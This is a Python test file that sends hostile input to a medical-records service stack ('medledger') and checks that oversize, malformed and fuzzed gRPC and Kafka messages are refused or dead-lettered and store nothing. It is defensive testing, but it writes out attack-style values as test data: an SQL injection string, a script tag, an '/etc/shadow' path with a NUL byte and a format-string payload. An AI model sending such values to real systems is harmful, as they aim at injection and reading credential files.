        assert not listed.principals, probe
        consents = await ConsentServiceStub(world.channel("admin", "consent")).ListConsents(
            co_pb.ListConsentsRequest(patient_id=probe)
        )
        assert not consents.consents, probe
        code, _ = await status_and_details(patient_records.GetRecord(rec_pb.GetRecordRequest(record_id=probe)))
        assert code == CODE.NOT_FOUND, probe
    for service in SERVICE_NAMES:
        async with world.runtime(service).db.connect() as conn:
            assert (await conn.execute(text("SELECT count(*) FROM outbox"))).scalar_one() >= 0


# --- oversize messages ---------------------------------------------------------------------------


async def test_oversize_messages_are_refused_and_store_nothing(world: World) -> None:
    from medledger.records.v1.records_service_pb2_grpc import RecordsServiceStub

    # Above MEDLEDGER_GRPC_MAX_MESSAGE_BYTES, every service refuses the message itself, whoever
    # sends it (a client without a send limit, so that the server's limit is what answers).
    for name, desc in services():
        runtime = world.runtime(name)
        limit = runtime.settings.grpc_max_message_bytes
        async with grpc.aio.insecure_channel(
            world.address(name), options=[("grpc.max_send_message_length", -1)]
        ) as channel:
            method = desc.methods[0]
            call = channel.unary_unary(f"/{desc.full_name}/{method.name}")
            before = await snapshot(runtime)
            code, _ = await status_and_details(call(b"\x0a" + b"\xff" * (limit + 1), timeout=CALL_TIMEOUT))
            assert code == CODE.RESOURCE_EXHAUSTED, f"{desc.name}.{method.name} answered {code.name}"
            await assert_unchanged(runtime, before, code, f"an oversize {method.name}")

    # A record above records' own limit (4 MiB), as a document and as FHIR JSON: refused, and
    # nothing stored under its request id, which a valid put may then use.
    records = world.runtime("records")
    patient = RecordsServiceStub(world.channel("patient", "records"))
    four_mib = 4 * 1024 * 1024
    padded = dict(_observation(), note=[{"text": "x" * four_mib}])
    for content, media_type in ((b"x" * (four_mib + 1), "text/plain"), (json.dumps(padded).encode(), FHIR_JSON)):
        request = rec_pb.PutRecordRequest(
            request_id=rid(), patient_id=world.ids["patient"], category=OBS, content=content, media_type=media_type
        )
        before = await snapshot(records)
        code, details = await status_and_details(patient.PutRecord(request, timeout=CALL_TIMEOUT))
        assert code == CODE.RESOURCE_EXHAUSTED, details
        await assert_unchanged(records, before, code, "an oversize PutRecord")
        small = rec_pb.PutRecordRequest()
        small.CopyFrom(request)
        small.content, small.media_type = b"a small note", "text/plain"
        assert (await patient.PutRecord(small, timeout=CALL_TIMEOUT)).version == 1


async def test_control_characters_in_fhir_strings_are_invalid_argument_and_store_nothing(world: World) -> None:
    """FHIR's JSON format forbids code points below 32 but tab, CR and LF in strings; records
    refuses them, in a put and in a bulk put, naming the string's path, and stores nothing."""
    from medledger.records.v1.records_service_pb2_grpc import RecordsServiceStub

    from medledger_devstack.testing import bad_request_fields

    records = world.runtime("records")
    patient = RecordsServiceStub(world.channel("patient", "records"))
    bad = copy.deepcopy(_observation())
    bad.pop("id", None)
    bad["code"]["text"] = "glucose\x1b[31m"
    content = json.dumps(bad).encode()
    put = rec_pb.PutRecordRequest(
        request_id=rid(), patient_id=world.ids["patient"], category=OBS, content=content, media_type=FHIR_JSON
    )
    bulk = rec_pb.PutRecordsRequest(
        request_id=rid(),
        patient_id=world.ids["patient"],
        records=[
            rec_pb.RecordWrite(category=OBS, content=json.dumps(_observation()).encode(), media_type=FHIR_JSON),
            rec_pb.RecordWrite(category=OBS, content=content, media_type=FHIR_JSON),
        ],
    )
    for call, field in (
        (patient.PutRecord(put, timeout=CALL_TIMEOUT), "content.code.text"),
        (patient.PutRecords(bulk, timeout=CALL_TIMEOUT), "records[1].content.code.text"),
    ):
        before = await snapshot(records)
        with pytest.raises(grpc.aio.AioRpcError) as error:
            await call
        assert error.value.code() == CODE.INVALID_ARGUMENT, error.value.details()
        assert bad_request_fields(error.value) == [field]
        await assert_unchanged(records, before, CODE.INVALID_ARGUMENT, "a control character in FHIR content")
    # Tab, CR and LF are allowed: the same put with a newline instead is stored.
    bad["code"]["text"] = "glucose\n(fasting)"
    put.request_id, put.content = rid(), json.dumps(bad).encode()
    assert (await patient.PutRecord(put, timeout=CALL_TIMEOUT)).version == 1


# --- malformed Kafka messages ---------------------------------------------------------------------

UNDECODABLE = b"\x0a\xff\xff\xff\x0f"  # field 1, length-delimited, a length far past the end
# The payload types each topic's consumers act on, each sent with a payload that does not parse.
GARBAGE_TYPES: dict[str, tuple[Any, ...]] = {
    TOPICS["identity"]: (
        identity_events_pb2.PrincipalDeactivated,
        records_events_pb2.PatientKeysDestroyed,
        identity_events_pb2.PrincipalRoleChanged,
    ),
    TOPICS["consent"]: (
        consent_events_pb2.ConsentVersionRecorded,
        records_events_pb2.PatientKeysDestroyed,
        consent_events_pb2.GuardianshipChanged,
    ),
    TOPICS["consent.decisions"]: (consent_events_pb2.ConsentDecisionRecorded,),
    TOPICS["notifications"]: (notification_events_pb2.NotificationRequested,),
    TOPICS["records"]: (records_events_pb2.PatientKeysErasureRequested, records_events_pb2.PatientRecordsErased),
    TOPICS["audit"]: (audit_events_pb2.CheckpointSigned,),
    TOPICS["anchoring"]: (anchoring_events_pb2.ConsentCommitmentRecorded,),
}
# A topic's first garbage type is acted on by every consumer of the topic that dead-letters but
# those that act on a later type alone (records' erasure confirmations, on the participants'
# topics; consent's backfill of erasures completed before it took part, on records'; records' and
# audit's guardianships, on consent's and identity's); a later type only by those.
GUARDIANSHIPS = {"records.guardianships", "audit.guardianships"}
ONLY_BY = {
    records_events_pb2.PatientKeysDestroyed.DESCRIPTOR.full_name: {"records.erasure-confirmations"},
    records_events_pb2.PatientRecordsErased.DESCRIPTOR.full_name: {"consent.erasure-backfill"},
    consent_events_pb2.GuardianshipChanged.DESCRIPTOR.full_name: GUARDIANSHIPS,
    identity_events_pb2.PrincipalRoleChanged.DESCRIPTOR.full_name: GUARDIANSHIPS,
}


@dataclass(frozen=True)
class Poison:
    topic: str
    kind: str
    raw: bytes
    # The envelope's id when it parses as one (the log's entry id); else the log names it by place.
    event_id: str | None = None
    partition: int = -1
    offset: int = -1

    def entry_id(self) -> str:
        if self.event_id is not None:
            return self.event_id
        return f"kafka:{self.topic}/{self.partition}/{self.offset}:{hashlib.sha256(self.raw).hexdigest()[:16]}"


def _envelope(type_name: str, value: bytes, event_id: str) -> Event:
    data = any_pb2.Any(type_url=f"type.googleapis.com/{type_name}", value=value)
    event = Event(id=event_id, source="medledger.hostile-tests", type=type_name, aggregate_id="hostile", version=1)
    event.time.GetCurrentTime()
    event.data.CopyFrom(data)
    return event


def poisons(topic: str) -> list[Poison]:
    harmless = notification_events_pb2.NotificationRequested(topic="hostile", subject_id="x")
    valid = new_event(source="medledger.hostile-tests", payload=harmless, aggregate_id="hostile", version=1)
    mismatched = Event()
    mismatched.CopyFrom(valid)
    mismatched.type = identity_events_pb2.PrincipalDeactivated.DESCRIPTOR.full_name
    unknown = "medledger.events.v1.NoSuchEvent'; DROP TABLE entries; --"
    garbage = [
        Poison(
            topic,
            "garbage payload",
            _envelope(t.DESCRIPTOR.full_name, UNDECODABLE, f"garbage-{uuid.uuid4()}").SerializeToString(),
        )
        for t in GARBAGE_TYPES[topic]
    ]
    return [
        Poison(topic, "random bytes", b"\xff\xff\xff\xff" + bytes(_rng.getrandbits(8) for _ in range(60))),
        Poison(topic, "empty", b""),
        Poison(topic, "truncated envelope", valid.SerializeToString()[:-3]),
        Poison(topic, "type not its payload's", mismatched.SerializeToString()),
        Poison(
            topic,
            "unknown type",
            _envelope(unknown, b"\x0a\x03abc", f"<script>{uuid.uuid4()}").SerializeToString(),
            event_id=None,
        ),
        *garbage,
    ]


def consumers_of(world: World, topic: str) -> dict[str, EventConsumer]:
    """Every running consumer of `topic` by name, the log's included."""
    found: dict[str, EventConsumer] = {}
    for name in SERVICE_NAMES:
        for consumer in world.runtime(name)._consumers:
            if topic in consumer.topics or (consumer.pattern and re.match(consumer.pattern, topic)):
                found[consumer.name] = consumer
    return found


async def read_topic(bootstrap: str, topic: str) -> list[Any]:
    """Every message of `topic` so far (none if it does not exist yet)."""
    consumer = AIOKafkaConsumer(bootstrap_servers=bootstrap, group_id=None, enable_auto_commit=False)
    await consumer.start()
    try:
        if topic not in await consumer.topics():
            return []
        partitions = [TopicPartition(topic, p) for p in sorted(consumer.partitions_for_topic(topic) or ())]
        consumer.assign(partitions)
        await consumer.seek_to_beginning(*partitions)
        ends = await consumer.end_offsets(partitions)
        out: list[Any] = []
        while [tp for tp in partitions if await consumer.position(tp) < ends[tp]]:
            batches = await consumer.getmany(timeout_ms=500)
            for records in batches.values():
                out += records
        return out
    finally:
        await consumer.stop()


async def test_malformed_kafka_messages_are_dead_lettered_and_logged_as_unprocessable(world: World) -> None:
    stack = world.stack
    bootstrap = stack.identity.settings.kafka_bootstrap_servers
    sent: list[Poison] = []
    after: dict[str, tuple[int, int, str]] = {}  # topic: partition, offset and id of a valid event after
    producer = AIOKafkaProducer(bootstrap_servers=bootstrap, acks="all")
    await producer.start()
    try:
        for topic in dict.fromkeys(TOPICS.values()):
            for poison in poisons(topic):
                meta = await producer.send_and_wait(topic, poison.raw, key=b"hostile")
                event_id = poison.event_id
                if poison.kind in ("unknown type", "garbage payload"):
                    event_id = Event.FromString(poison.raw).id
                sent.append(
                    Poison(topic, poison.kind, poison.raw, event_id, partition=meta.partition, offset=meta.offset)
                )
            harmless = notification_events_pb2.NotificationRequested(topic="hostile-input.after", subject_id=topic)
            valid = new_event(source="medledger.hostile-tests", payload=harmless, aggregate_id="hostile", version=1)
            meta = await producer.send_and_wait(topic, valid.SerializeToString(), key=b"hostile")
            after[topic] = (meta.partition, meta.offset, valid.id)
    finally:
        await producer.stop()

    # The log keeps each as an `unprocessable` entry, and the valid event after it as itself.
    audit = world.runtime("audit")
    wanted = {p.entry_id(): p for p in sent}

    async def logged() -> dict[str, tuple[str, dict[str, Any]]]:
        async with audit.db.connect() as conn:
            rows = await conn.execute(
                text("SELECT event_id, type, entry FROM entries WHERE event_id = ANY(:ids)"),
                {"ids": [*wanted, *(a[2] for a in after.values())]},
            )
            return {r[0]: (r[1], json.loads(bytes(r[2]))) for r in rows}

    entries = await _eventually(
        lambda: _all_there(logged, len(wanted) + len(after)), "the log to take every message", within=60
    )
    for entry_id, poison in wanted.items():
        entry_type, entry = entries[entry_id]
        assert entry_type == "unprocessable", f"{poison.kind} on {poison.topic} became {entry_type}"
        assert entry["event_id"] == entry_id
    for _, _, valid_id in after.values():
        assert entries[valid_id][0] == "notification.requested"

    # Each consumer that dead-letters sent each malformed envelope to `<topic>.dlq`, and each that
    # acts on the garbage payload's type sent that too, with the error and the source in headers.
    expected: set[tuple[str, int, str]] = set()
    for poison in sent:
        consumers = consumers_of(world, poison.topic)
        dead_letterers = {n for n, c in consumers.items() if not c.accept_malformed}
        if poison.kind == "garbage payload":
            garbage_type = Event.FromString(poison.raw).type
            if garbage_type in ONLY_BY:
                dead_letterers &= ONLY_BY[garbage_type]
            else:
                dead_letterers -= set().union(*ONLY_BY.values())
        if poison.kind != "unknown type":
            expected |= {(poison.topic, poison.offset, n) for n in dead_letterers}

    # Every kind of consumer is among them: each service's deactivation listener, consent's
    # directory and index, identity's and consent's erasures, records' erasure confirmations,
    # consent's erasure backfill, anchoring's checkpoints and consents, records' and audit's
    # guardianships.
    groups = {g for _, _, g in expected}
    assert {
        *(f"{n}.deactivations" for n in SERVICE_NAMES),
        "consent.principal-directory",
        "consent.index",
        "identity.erasures",
        "consent.erasures",
        "records.erasure-confirmations",
        "consent.erasure-backfill",
        "anchoring.checkpoints",
        "anchoring.consents",
        *GUARDIANSHIPS,
    } <= groups, groups

    async def dead_lettered() -> set[tuple[str, int, str]]:
        found = set()
        for topic in dict.fromkeys(p.topic for p in sent):
            for record in await read_topic(bootstrap, dlq_topic(topic)):
                headers = {k: v.decode() for k, v in record.headers or ()}
                if headers.get("dlq.source.topic") == topic and "dlq.error" in headers:
                    found.add((topic, int(headers["dlq.source.offset"]), headers["dlq.consumer.group"]))
        return found

    async def all_dead_lettered() -> bool:
        return expected <= await dead_lettered()

    await _eventually(all_dead_lettered, "every dead letter", within=60)
    missing = expected - await dead_lettered()
    assert not missing

    # The consumers go on: those in a group commit past the valid event after the poison, and
    # every service's deactivation listener still applies a deactivation.
    for topic, (partition, offset, _) in after.items():
        for name, consumer in consumers_of(world, topic).items():
            if consumer.group_id is None:
                continue

            where = TopicPartition(topic, partition)

            async def committed(c: EventConsumer = consumer, tp: Any = where, o: int = offset) -> bool:
                return ((await c.consumer.committed(tp)) or 0) > o

            await _eventually(committed, f"{name} to commit past the poison on {topic}", within=30)
    from medledger.identity.v1.identity_service_pb2_grpc import IdentityServiceStub

    admin_identity = IdentityServiceStub(world.channel("admin", "identity"))
    throwaway = await _register(admin_identity, Kind.PRINCIPAL_KIND_RESEARCHER)
    principal_id = throwaway.principal.principal_id
    await admin_identity.DeactivatePrincipal(
        id_pb.DeactivatePrincipalRequest(request_id=rid(), principal_id=principal_id)
    )

    async def everyone_knows() -> bool:
        return all(principal_id in world.runtime(n).deactivated for n in SERVICE_NAMES)

    await _eventually(everyone_knows, "every service to apply the deactivation", within=20)


async def _all_there(probe: Callable[[], Any], n: int) -> Any:
    found = await probe()
    return found if len(found) >= n else None


# --- every RPC, hostile requests ----------------------------------------------------------------

_REQUESTS: dict[tuple[str, str], st.SearchStrategy[Message]] = {}
_UNCHANGED_SINCE: dict[tuple[str, str, str], Snapshot] = {}


def request_strategy(world: World, full_service: str, method: str) -> st.SearchStrategy[Message]:
    key = (full_service, method)
    if key not in _REQUESTS:
        desc = World.stack_descriptor(full_service).methods_by_name[method]
        _REQUESTS[key] = message_strategy(desc.input_type, world.pools, method)
    return _REQUESTS[key]


def _rpc_id(rpc: tuple[str, str, str]) -> str:
    return f"{rpc[1].rsplit('.', 1)[-1]}.{rpc[2]}"


@pytest.mark.parametrize("rpc", ALL_RPCS, ids=[_rpc_id(r) for r in ALL_RPCS])
@settings(
    max_examples=EXAMPLES_PER_RPC,
    deadline=None,
    derandomize=True,
    database=None,
    print_blob=False,
    suppress_health_check=list(HealthCheck),
)
@given(data=st.data())
async def test_every_rpc_answers_hostile_requests_without_a_fault_and_a_refusal_stores_nothing(
    world: World, rpc: tuple[str, str, str], data: st.DataObject
) -> None:
    service, full_service, method = rpc
    caller = data.draw(st.sampled_from(sorted(world.callers)), label="caller")
    request = data.draw(request_strategy(world, full_service, method), label="request")
    metadata = None
    if world.callers[caller].forged:
        metadata = (("authorization", data.draw(st.sampled_from(world.forged_tokens), label="token")),)
    runtime = world.runtime(service)
    # After a refused call the state it left is the next call's `before`: half the snapshots.
    before = _UNCHANGED_SINCE.pop(rpc, None) or await snapshot(runtime)
    stub = world.rpc(caller, service, full_service, method)
    code, details = await status_and_details(stub(request, metadata=metadata, timeout=CALL_TIMEOUT))
    what = f"{method} as {caller}"
    assert code not in FORBIDDEN, f"{what} ended {code.name}: {details}"
    if code != CODE.OK:
        _UNCHANGED_SINCE[rpc] = await assert_unchanged(runtime, before, code, what)


async def test_every_service_still_serves_after_the_hostile_requests(world: World) -> None:
    for service in SERVICE_NAMES:
        health = health_pb2_grpc.HealthStub(world.channel("public", service))
        reply = await health.Check(health_pb2.HealthCheckRequest(), timeout=5)
        assert reply.status == health_pb2.HealthCheckResponse.SERVING, service
    # And a plain request still does what it did: the doctor reads the patient's record.
    from medledger.records.v1.records_service_pb2_grpc import RecordsServiceStub

    got = await RecordsServiceStub(world.channel("patient", "records")).GetRecord(
        rec_pb.GetRecordRequest(record_id=world.ids["record"]), timeout=CALL_TIMEOUT
    )
    assert json.loads(got.content) == _observation()


# --- what the hostile requests found --------------------------------------------------------------


async def test_requests_that_once_ended_internal_are_refused_naming_the_field(world: World) -> None:
    """Each of these ended INTERNAL before the fix the fuzz above led to."""
    from google.protobuf.duration_pb2 import Duration
    from google.protobuf.timestamp_pb2 import Timestamp
    from medledger.anchoring.v1 import anchoring_service_pb2 as an_pb
    from medledger.anchoring.v1.anchoring_service_pb2_grpc import AnchoringServiceStub
    from medledger.audit.v1.audit_service_pb2_grpc import AuditServiceStub
    from medledger.consent.v1.consent_service_pb2_grpc import ConsentServiceStub
    from medledger.identity.v1.identity_service_pb2_grpc import IdentityServiceStub
    from medledger.records.v1.records_service_pb2_grpc import RecordsServiceStub

    from medledger_devstack.testing import bad_request_fields

    async def refused(call: Any, code: grpc.StatusCode, fields: list[str] | None = None) -> None:
        with pytest.raises(grpc.aio.AioRpcError) as error:
            await call
        assert error.value.code() == code, error.value.details()
        if fields is not None:
            assert bad_request_fields(error.value) == fields

    ids = world.ids
    identity = IdentityServiceStub(world.channel("admin", "identity"))
    consent = ConsentServiceStub(world.channel("admin", "consent"))
    records = RecordsServiceStub(world.channel("patient", "records"))
    officer_records = RecordsServiceStub(world.channel("officer", "records"))
    audit = AuditServiceStub(world.channel("auditor", "audit"))
    anchoring = AnchoringServiceStub(world.channel("patient", "anchoring"))
    bad = CODE.INVALID_ARGUMENT

    # A NUL in a string: PostgreSQL refused the query. Now refused before the handler, any RPC.
    await refused(
        identity.GetPrincipal(id_pb.GetPrincipalRequest(principal_id="/etc/shadow\x00.json")), bad, ["principal_id"]
    )
    await refused(
        identity.DeactivatePrincipal(id_pb.DeactivatePrincipalRequest(request_id=rid(), principal_id="\x00")),
        bad,
        ["principal_id"],
    )
    await refused(records.GetRecord(rec_pb.GetRecordRequest(record_id=ids["record"] + "\x00")), bad, ["record_id"])
    await refused(officer_records.GetErasure(rec_pb.GetErasureRequest(erasure_id="\x00" * 64)), bad, ["erasure_id"])
    await refused(officer_records.ReleaseLegalHold(rec_pb.ReleaseLegalHoldRequest(hold_id="\x00")), bad, ["hold_id"])
    await refused(
        consent.ListBreakGlassAccesses(co_pb.ListBreakGlassAccessesRequest(organization_id="\x00")),
        bad,
        ["organization_id"],
    )
    nested = co_pb.BreakGlassPolicy(organization_id=ids["org"] + "\x00", enabled=True)
    await refused(
        consent.SetBreakGlassPolicy(co_pb.SetBreakGlassPolicyRequest(request_id=rid(), policy=nested)),
        bad,
        ["policy.organization_id"],
    )
    # An id longer than its VARCHAR(64) column: the insert failed.
    await refused(
        officer_records.PlaceLegalHold(
            rec_pb.PlaceLegalHoldRequest(request_id=rid(), patient_id="x" * 10_240, reason="%s%s%s%n%x")
        ),
        bad,
        ["patient_id"],
    )
    # The checks run after authentication: a caller without a token learns nothing of the
    # request's content (UNAUTHENTICATED), one with a token learns which field is malformed.
    public_identity = IdentityServiceStub(world.channel("public", "identity"))
    malformed = id_pb.GetPrincipalRequest(principal_id="\x00")
    await refused(public_identity.GetPrincipal(malformed), grpc.StatusCode.UNAUTHENTICATED)
    await refused(identity.GetPrincipal(malformed), bad, ["principal_id"])

    # Times outside the Timestamp and Duration ranges: converting them raised in the handler.
    await refused(audit.ListEntries(au_pb.ListEntriesRequest(time_from=Timestamp(nanos=2**31 - 1))), bad, ["time_from"])
    await refused(
        records.ListRecords(
            rec_pb.ListRecordsRequest(patient_id=ids["patient"], updated_before=Timestamp(seconds=2**63 - 1))
        ),
        bad,
        ["updated_before"],
    )
    grant = co_pb.GrantConsentRequest(
        request_id=rid(),
        patient_id=ids["patient"],
        grantee_id=ids["bystander"],
        provision=co_pb.ProvisionType.PROVISION_TYPE_PERMIT,
        period_end=Timestamp(seconds=-(2**62)),
    )
    await refused(consent.GrantConsent(grant), bad, ["period_end"])
    mixed = co_pb.BreakGlassPolicy(
        organization_id=ids["org"], enabled=True, access_duration=Duration(seconds=60, nanos=-1)
    )
    await refused(
        consent.SetBreakGlassPolicy(co_pb.SetBreakGlassPolicyRequest(request_id=rid(), policy=mixed)),
        bad,
        ["policy.access_duration"],
    )

    # Numbers beyond what a column holds: the driver refused them.
    await refused(consent.GetConsent(co_pb.GetConsentRequest(consent_id=ids["consent"], version=2**31)), CODE.NOT_FOUND)
    await refused(consent.GetConsent(co_pb.GetConsentRequest(consent_id=ids["consent"], version=-1)), bad, ["version"])
    await refused(audit.GetCheckpoint(au_pb.GetCheckpointRequest(tree_size=2**63)), CODE.NOT_FOUND)
    await refused(audit.GetTlogProof(au_pb.GetTlogProofRequest(index=0, tree_size=2**64 - 1)), CODE.NOT_FOUND)
    await refused(anchoring.GetAnchoredProof(an_pb.GetAnchoredProofRequest(entry_index=2**63)), bad, ["entry_index"])
    await refused(records.GetRecord(rec_pb.GetRecordRequest(record_id=ids["record"], version=2**31)), CODE.NOT_FOUND)
    # Enum values consent does not know, passed on to it: its INVALID_ARGUMENT became INTERNAL.
    doctor_records = RecordsServiceStub(world.channel("doctor", "records"))
    await refused(
        doctor_records.GetRecord(rec_pb.GetRecordRequest(record_id=ids["record"], purpose=99)), bad, ["purpose"]
    )
    await refused(
        doctor_records.ListRecords(rec_pb.ListRecordsRequest(patient_id=ids["patient"], purpose=-1)), bad, ["purpose"]
    )
    await refused(
        doctor_records.ListRecords(
            rec_pb.ListRecordsRequest(patient_id=ids["patient"], purpose=TREAT, categories=[99])
        ),
        bad,
        ["categories"],
    )
    # Page tokens of digits that are not ASCII ("²" passes str.isdigit, not int()) or too many.
    public_anchoring = AnchoringServiceStub(world.channel("public", "anchoring"))
    for token in ("²", "٣", "9" * 30):
        await refused(
            public_anchoring.ListAnchoredCheckpoints(an_pb.ListAnchoredCheckpointsRequest(page_token=token)),
            bad,
            ["page_token"],
        )
        await refused(audit.ListEntries(au_pb.ListEntriesRequest(page_token=token)), bad, ["page_token"])
    # A media type without the record it describes: the verifier raised.
    await refused(anchoring.VerifyProof(an_pb.VerifyProofRequest(media_type=FHIR_JSON)), bad, ["media_type"])
